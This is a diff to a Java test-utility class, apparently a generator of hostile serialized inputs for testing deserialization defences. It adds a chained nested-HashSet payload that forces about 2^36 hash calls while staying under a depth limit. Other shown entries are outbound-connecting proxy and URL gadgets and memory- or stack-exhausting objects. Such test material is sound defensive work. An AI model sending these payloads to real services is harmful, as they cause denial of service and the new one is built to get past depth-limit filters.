@@ -50,6 +50,7 @@ public final class HostileJavaBytes {
         payloads.put("RemoteObjectInvocationHandler proxy (connects)", remoteStub(watchPort));
         payloads.put("URL as a map key (resolves, connects)", urlKey(watchPort));
         payloads.put("nested HashSets (2^100 hash calls)", nestedSets(100));
+        payloads.put("chained nested HashSets within any depth limit (2^36 hash calls)", chainedSets(3, 12));
         payloads.put("int[] of length 2^31-1 (OutOfMemoryError)", arrayLength(Integer.MAX_VALUE));
         payloads.put("HashMap of 2^30 mappings (OutOfMemoryError)", hugeMap());
         payloads.put("list that holds itself in a set (StackOverflowError)", selfHashing());
@@ -171,7 +172,28 @@ public final class HostileJavaBytes {
     /** Each level's two sets both hold the next level's two: 2^levels hashCode calls to read. */
     public static byte[] nestedSets(int levels) {
         Set<Object> root = new HashSet<>();
-        Set<Object> left = root;
+        fillSharedSets(root, levels, "x");
+        return serialize(root);
+    }
+
+    /**
+     * {@code count} chains of {@code levels} shared sets, the deepest sets of each holding the
+     * previous chain: 2^(count × levels) hashCode calls, at a depth of only {@code levels}.
+     * Built outermost first, so that building it here hashes only sets that are still empty.
+     */
+    public static byte[] chainedSets(int count, int levels) {
+        List<Set<Object>> chains = new ArrayList<>();
+        for (int i = 0; i < count; i++) {
+            chains.add(new HashSet<>());
+        }
+        for (int i = count - 1; i >= 0; i--) {
+            fillSharedSets(chains.get(i), levels, i == 0 ? "x" : chains.get(i - 1));
+        }
+        return serialize(new ArrayList<>(chains));
+    }
+
+    private static void fillSharedSets(Set<Object> top, int levels, Object tail) {
+        Set<Object> left = top;
         Set<Object> right = new HashSet<>();
         for (int i = 0; i < levels; i++) {
             Set<Object> a = new HashSet<>();
@@ -184,7 +206,8 @@ public final class HostileJavaBytes {
             left = a;
             right = b;
         }
-        return serialize(root);
+        left.add(tail);
+        right.add(tail);
     }
 
     /** An {@code int[1]} whose length field is patched: the stream ends with length, element. */
